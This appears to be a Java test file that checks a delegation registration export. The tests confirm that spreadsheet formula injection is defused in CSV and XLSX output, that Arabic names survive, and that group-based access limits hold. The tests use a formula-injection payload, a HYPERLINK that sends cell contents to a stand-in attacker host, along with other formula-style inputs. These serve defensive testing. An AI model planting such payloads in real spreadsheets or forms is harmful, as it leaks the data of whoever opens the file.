package org.convene.delegations.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.convene.delegations.DelegateRole;
import org.convene.delegations.Gender;
import org.convene.delegations.GroupKind;
import org.convene.delegations.Person;
import org.convene.delegations.RegistrationExport;
import org.convene.delegations.RegistrationFilter;
import org.convene.delegations.RegistrationStatus;
import org.convene.delegations.SheetFormat;
import org.convene.platform.AccessDeniedException;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** Exports show what the list shows, in any script, with formula-looking text defused. */
@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RegistrationExportTest extends DelegationsModuleTest {
    private static final String ATTACK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

    @Inject
    RegistrationExport export;

    private void nominateAttackerAndOthers(long civilSociety, long business) {
        registration.nominate(Actors.CHAIR_OFFICE, civilSociety, new Person(ATTACK, "+SUM(1,2)", null, null, "@cmd", "-2+3",
                "SN", "DE", Gender.FEMALE, "eve@example.org", DelegateRole.DELEGATE, "-wheelchair", null));
        registration.nominate(Actors.CHAIR_OFFICE, civilSociety, new Person("عمر", "الفاسي", "Omar", "El Fassi", "جمعية المهاجرين", null,
                "MA", "MA", null, "omar@example.org", DelegateRole.ADVISER, null, null));
        registration.nominate(Actors.CHAIR_OFFICE, business, People.delegate("biz@example.org"));
    }

    private static List<CSVRecord> records(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return CSVFormat.RFC4180.parse(new StringReader(text.substring(1))).getRecords();
    }

    @Test
    void a_csv_export_neutralises_formulas_and_keeps_arabic() throws IOException {
        long civilSociety = group(GroupKind.CIVIL_SOCIETY, 10);
        nominateAttackerAndOthers(civilSociety, group(GroupKind.BUSINESS, 10));

        List<CSVRecord> rows = records(export.export(Actors.CHAIR_OFFICE, berlin, new RegistrationFilter(civilSociety, null, null, null),
                SheetFormat.CSV));

        assertThat(rows).hasSize(3);
        assertThat(rows.getFirst().toList()).isEqualTo(RegistrationExport.COLUMNS);
        CSVRecord eve = rows.get(1);
        int given = RegistrationExport.COLUMNS.indexOf("givenName");
        assertThat(eve.get(given)).isEqualTo("'" + ATTACK);
        assertThat(eve.get(given + 1)).isEqualTo("'+SUM(1,2)");
        assertThat(eve.get(RegistrationExport.COLUMNS.indexOf("organisation"))).isEqualTo("'@cmd");
        assertThat(eve.get(RegistrationExport.COLUMNS.indexOf("title"))).isEqualTo("'-2+3");
        assertThat(eve.get(RegistrationExport.COLUMNS.indexOf("accessibilityNeeds"))).isEqualTo("'-wheelchair");
        // Stored text is stripped, so a leading tab or CR cannot reach an export; the unit test below covers them.
        assertThat(eve.get(RegistrationExport.COLUMNS.indexOf("status"))).isEqualTo("NOMINATED");
        assertThat(eve.get(RegistrationExport.COLUMNS.indexOf("group"))).isEqualTo("CIVIL_SOCIETY");
        assertThat(rows.get(2).get(given)).isEqualTo("عمر");
    }

    @Test
    void an_xlsx_export_writes_formula_looking_text_as_neutralised_text_cells() {
        long civilSociety = group(GroupKind.CIVIL_SOCIETY, 10);
        nominateAttackerAndOthers(civilSociety, group(GroupKind.BUSINESS, 10));

        List<List<Cell>> rows = Workbooks.cells(export.export(Actors.CHAIR_OFFICE, berlin, RegistrationFilter.all(), SheetFormat.XLSX));

        assertThat(rows).hasSize(4);
        Cell attack = rows.get(1).get(RegistrationExport.COLUMNS.indexOf("givenName"));
        assertThat(attack.getType()).isEqualTo(CellType.STRING);
        assertThat(attack.getFormula()).isNull();
        assertThat(attack.asString()).isEqualTo("'" + ATTACK);
        assertThat(rows.stream().flatMap(List::stream)).noneMatch(c -> c.getType() == CellType.FORMULA);
        assertThat(rows.get(2).get(RegistrationExport.COLUMNS.indexOf("familyName")).asString()).isEqualTo("الفاسي");
    }

    @Test
    void a_lead_exports_only_their_group_and_may_not_ask_for_another() throws IOException {
        long civilSociety = group(GroupKind.CIVIL_SOCIETY, 10);
        long business = group(GroupKind.BUSINESS, 10);
        nominateAttackerAndOthers(civilSociety, business);

        List<CSVRecord> mine = records(export.export(Actors.BUSINESS_LEAD, berlin, RegistrationFilter.all(), SheetFormat.CSV));
        assertThat(mine).hasSize(2);
        assertThat(mine.get(1).get(RegistrationExport.COLUMNS.indexOf("email"))).isEqualTo("biz@example.org");

        assertThatThrownBy(() -> export.export(Actors.BUSINESS_LEAD, berlin, new RegistrationFilter(civilSociety, null, null, null), SheetFormat.CSV))
                .isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> export.export(Actors.BUSINESS_LEAD, berlin, new RegistrationFilter(civilSociety, null, null, null), SheetFormat.XLSX))
                .isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void filters_narrow_the_export_like_the_list() throws IOException {
        long civilSociety = group(GroupKind.CIVIL_SOCIETY, 10);
        nominateAttackerAndOthers(civilSociety, group(GroupKind.BUSINESS, 10));

        assertThat(records(export.export(Actors.CHAIR_OFFICE, berlin, new RegistrationFilter(null, null, "MA", DelegateRole.ADVISER), SheetFormat.CSV)))
                .hasSize(2);
        assertThat(records(export.export(Actors.CHAIR_OFFICE, berlin, new RegistrationFilter(null, RegistrationStatus.APPROVED, null, null), SheetFormat.CSV)))
                .hasSize(1);
    }

    @Test
    void neutralising_touches_only_the_dangerous_first_characters() {
        assertThat(SheetWriter.neutralised("=1+1")).isEqualTo("'=1+1");
        assertThat(SheetWriter.neutralised("\rX")).isEqualTo("'\rX");
        assertThat(SheetWriter.neutralised("\tX")).isEqualTo("'\tX");
        assertThat(SheetWriter.neutralised("Anne-Marie")).isEqualTo("Anne-Marie");
        assertThat(SheetWriter.neutralised("a=b")).isEqualTo("a=b");
        assertThat(SheetWriter.neutralised(null)).isEmpty();
    }
}
